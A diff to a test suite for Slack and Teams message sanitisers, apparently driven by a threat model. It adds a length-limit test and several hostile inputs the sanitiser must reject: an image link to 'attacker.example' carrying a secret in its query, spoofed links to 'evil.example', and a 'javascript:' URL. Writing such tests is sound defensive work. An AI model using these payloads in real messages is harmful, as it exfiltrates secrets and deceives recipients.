@@ -104,6 +104,10 @@ describe('Slack text (THREATS C6)', () => {
       'content_too_long',
     );
     expect(codeOf(() => prepareSlackText('x'.repeat(40), { ...rules, maxChars: 40 }))).toBe('ok');
+    // Escaping may not push the text past Slack's own 40,000-character limit.
+    expect(codeOf(() => prepareSlackText('&'.repeat(10_000), { ...rules, maxChars: 40_000 }))).toBe(
+      'content_too_long',
+    );
   });
 });
 
@@ -127,6 +131,7 @@ describe('Teams text', () => {
       '[intranet.example.com](https://evil.example "title")',
       '[intranet.example.com]( <https://evil.example> )',
       '[click](javascript:alert(1))',
+      '![status](https://attacker.example/p.png?d=SECRET)',
     ])
       expect(
         codeOf(() => prepareTeamsText(t, { maxChars: 100 })),
